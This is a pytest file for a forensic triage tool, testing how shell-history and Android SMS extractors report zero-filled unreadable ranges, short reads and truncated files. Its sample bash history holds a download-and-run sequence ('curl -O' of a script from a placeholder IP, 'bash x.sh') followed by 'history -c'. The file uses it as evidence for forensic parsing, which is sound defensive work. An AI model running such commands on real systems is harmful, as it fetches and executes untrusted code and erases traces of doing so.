"""Extractors fed the way damaged evidence reaches them: short reads, unreadable ranges, a short tail.

The pipeline leaves unreadable ranges out, records them in ``read_errors`` and finishes the runs as
incomplete; the runner zero-fills the gaps at their true offsets and every extractor that parsed the
file says so in a stored warning naming the ranges. Nothing is shifted and nothing raises.
"""

from __future__ import annotations

import pytest
from forensic_triage.plugins.android_sms import AndroidSmsExtractor
from forensic_triage.plugins.shell_history import ShellHistoryExtractor
from helpers import _pieces, build_sqlite, run_extractor
from test_android_sms import DB_PATH, ROWS, SCHEMA
from test_shell_history import BASH

HISTORY = "home/alice/.bash_history"


def _summary(artifacts: list) -> list:  # type: ignore[type-arg]
    return [(a.type, a.data) for a in artifacts]


def test_pieces_leave_out_the_unreadable_ranges_at_true_offsets() -> None:
    data = bytes(range(256)) * 4
    pieces = _pieces(data, [(10, 20), (1000, 1024)], [7, 300])
    assert [(o, len(b)) for o, b in pieces][:4] == [(0, 7), (7, 3), (20, 287), (307, 7)]
    assert all(data[o: o + len(b)] == b for o, b in pieces)
    covered = sorted(i for o, b in pieces for i in range(o, o + len(b)))
    assert covered == [i for i in range(len(data)) if not (10 <= i < 20 or 1000 <= i)]


@pytest.mark.parametrize("sizes", [[1], [7, 4093], [4096, 1, 65535]])
def test_short_reads_give_the_same_records(sizes: list[int]) -> None:
    whole = run_extractor(ShellHistoryExtractor, BASH, HISTORY)
    assert run_extractor(ShellHistoryExtractor, BASH, HISTORY, pieces=sizes)[1] == []
    assert _summary(run_extractor(ShellHistoryExtractor, BASH, HISTORY, pieces=sizes)[0]) == _summary(whole[0])
    db, _ = build_sqlite(SCHEMA + ROWS)
    whole_db = run_extractor(AndroidSmsExtractor, db, DB_PATH)
    artifacts, warnings = run_extractor(AndroidSmsExtractor, db, DB_PATH, pieces=sizes)
    assert warnings == [] and _summary(artifacts) == _summary(whole_db[0]) and len(artifacts) == 3


def test_a_gap_is_zero_filled_in_place_and_reported() -> None:
    gap = (BASH.index(b"curl"), BASH.index(b"curl") + 4)  # the first bytes of the second command
    artifacts, warnings = run_extractor(ShellHistoryExtractor, BASH, HISTORY, unreadable=[gap], pieces=[5])
    commands = [(a.data["line"], a.data["command"]) for a in artifacts]
    # Nothing after the gap moved: the later commands keep their lines; the damaged one shows zeros, not text.
    assert commands == [(1, "ls -la"), (3, "\x00" * 4 + " -O http://203.0.113.5/x.sh"), (5, "bash x.sh"),
                        (8, "history -c")]
    assert len(warnings) == 1
    warning = warnings[0]
    assert (warning.source, warning.kind) == ("unix.shell_history", "warning")
    assert warning.details == {"zero_filled": [list(gap)]}
    assert "zero-filled" in warning.message and "its 4 record(s) come from the readable bytes" in warning.message


def test_a_short_tail_is_reported() -> None:
    cut = BASH.index(b"#1680344450")
    artifacts, warnings = run_extractor(ShellHistoryExtractor, BASH, HISTORY, unreadable=[(cut, len(BASH))])
    assert [a.data["command"] for a in artifacts] == ["ls -la", "curl -O http://203.0.113.5/x.sh", "bash x.sh"]
    # The extractor sees the zeros (its own warning), and the runner names the range.
    assert [(w.source, w.details) for w in warnings] == [("unix.shell_history", {}),
                                                         ("unix.shell_history", {"zero_filled": [[cut, len(BASH)]]})]
    assert warnings[0].message.startswith("History file holds binary data (NUL bytes)")


def test_an_unreadable_database_header_is_a_warning_not_a_crash() -> None:
    db, _ = build_sqlite(SCHEMA + ROWS)
    artifacts, warnings = run_extractor(AndroidSmsExtractor, db, DB_PATH, unreadable=[(0, 100)])
    assert artifacts == []
    assert [w.details.get("zero_filled") for w in warnings if w.details] == [[[0, 100]]]
    assert any(w.kind in ("error", "warning") and "zero-filled" not in w.message for w in warnings), warnings
    # A gap past the pages that hold the rows leaves every message readable, and is still named.
    artifacts, warnings = run_extractor(AndroidSmsExtractor, db + bytes(4096), DB_PATH,
                                        unreadable=[(len(db), len(db) + 4096)])
    assert len(artifacts) == 3
    assert [w.details for w in warnings] == [{"zero_filled": [[len(db), len(db) + 4096]]}]
